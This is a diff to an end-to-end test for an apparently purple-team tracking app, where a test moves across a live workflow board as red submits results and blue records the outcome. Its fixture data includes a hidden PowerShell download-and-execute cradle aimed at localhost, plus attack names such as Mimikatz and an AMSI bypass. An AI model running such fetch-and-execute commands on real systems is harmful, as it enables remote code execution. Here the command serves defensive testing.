@@ -239,28 +239,55 @@ try {
       },
     ],
     [
-      'the workflow board shows tests by state, read live',
+      'a test moves across the workflow board live: red submits, blue records the outcome',
       async () => {
-        if (!attackReady) throw new Skip('no ATT&CK data imported')
-        const techs = await su('GET', `/api/collections/techniques/records?perPage=10&filter=${encodeURIComponent("is_subtechnique=true")}`)
+        // Catalogue rows come from the upload above, or are written directly when this build cannot upload.
+        let tech = (await su('GET', `/api/collections/techniques/records?perPage=1&filter=${encodeURIComponent("attack_id='T1059.001'")}`)).items[0]
+        if (!tech) {
+          const tactic = await su('POST', '/api/collections/tactics/records', { stix_id: 'x-mitre-tactic--e2e-execution', attack_id: 'TA0002', name: 'Execution', shortname: 'execution', domain: 'enterprise-attack', matrix_order: 1 })
+          tech = await su('POST', '/api/collections/techniques/records', { stix_id: 'attack-pattern--e2e-t1059-001', attack_id: 'T1059.001', name: 'PowerShell', domain: 'enterprise-attack', tactics: [tactic.id], platforms: ['Windows'], in_scope: true })
+        }
         const camp = await su('POST', '/api/collections/campaigns/records', { name: 'Q4 purple exercise', status: 'active', round: 1 })
         const states = ['draft', 'ready', 'executing', 'blue_review', 'validated']
+        const names = ['Encoded command via powershell.exe', 'AMSI bypass attempt', 'PowerShell download cradle', 'Invoke-Mimikatz in memory', 'Scheduled task persistence']
         for (let i = 0; i < states.length; i++)
           await su('POST', '/api/collections/tests/records', {
-            name: `${techs.items[i].name} procedure`,
-            technique: techs.items[i].id,
+            name: names[i],
+            technique: tech.id,
             campaign: camp.id,
             state: states[i],
+            platform: 'windows',
+            procedure: 'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://127.0.0.1/payload.ps1\')"',
             revealed: true,
             revision: 1,
             ...(states[i] === 'validated' ? { prevention: 'partial', detection: 'technique' } : {}),
           })
         await admin.goto('/board')
-        await admin.getByTestId('board-card').nth(4).waitFor()
+        await analyst.goto('/board')
+        const column = (page, name) => page.getByRole('region', { name })
+        const cradle = (page, col) => column(page, col).getByTestId('board-card').filter({ hasText: 'PowerShell download cradle' })
+        await cradle(admin, 'Executing').waitFor()
+        await cradle(analyst, 'Executing').waitFor()
+        expect((await cradle(analyst, 'Executing').getByRole('button').count()) === 0, 'a blue analyst is offered red actions')
         await shot(admin, '18-workflow-board')
-        await admin.getByTestId('board-card').first().getByRole('link').click()
-        await admin.getByText('Procedure').first().waitFor()
-        await shot(admin, '19-test-detail')
+        await cradle(admin, 'Executing').getByRole('button', { name: 'Submit red result' }).click()
+        await admin.getByRole('dialog').getByLabel('Red result').selectOption('executed')
+        await admin.getByRole('dialog').getByRole('button', { name: 'Submit red result' }).click()
+        await cradle(admin, 'Blue review').waitFor()
+        await cradle(analyst, 'Blue review').waitFor({ timeout: 10_000 }) // arrived over realtime, no reload
+        await cradle(analyst, 'Blue review').getByRole('button', { name: 'Record outcome' }).click()
+        const dlg = analyst.getByRole('dialog')
+        await dlg.getByLabel('Prevention').selectOption('not_blocked')
+        await dlg.getByLabel('Detection').selectOption('technique')
+        await dlg.getByRole('button', { name: 'Record outcome' }).click()
+        await cradle(analyst, 'Validated').waitFor()
+        await cradle(admin, 'Validated').waitFor({ timeout: 10_000 })
+        await shot(analyst, '19-workflow-board-blue')
+        await cradle(admin, 'Validated').getByRole('link').click()
+        await admin.getByText('Detected: Technique').first().waitFor()
+        await admin.getByRole('tab', { name: 'History' }).click()
+        await admin.getByText(/Transition/).first().waitFor()
+        await shot(admin, '20-test-detail')
       },
     ],
   ])
